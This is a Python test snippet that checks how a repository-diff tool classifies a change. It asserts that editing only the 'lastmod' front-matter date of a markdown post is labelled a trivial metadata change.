    old = "---\ntitle: Post\ndate: 2023-05-01\nlastmod: 2024-01-01\n---\n\nBody.\n"
    new = old.replace("2024-01-01", "2031-01-01")
    repo = before_and_after(tmp_path / "repo", "content/posts/p.md", old, new)
    entry = files_by_path(manifest_of("--repo", repo, "HEAD"))["content/posts/p.md"]
    assert (entry["classification"], entry["reasons"]) == ("trivial", ["metadata"])
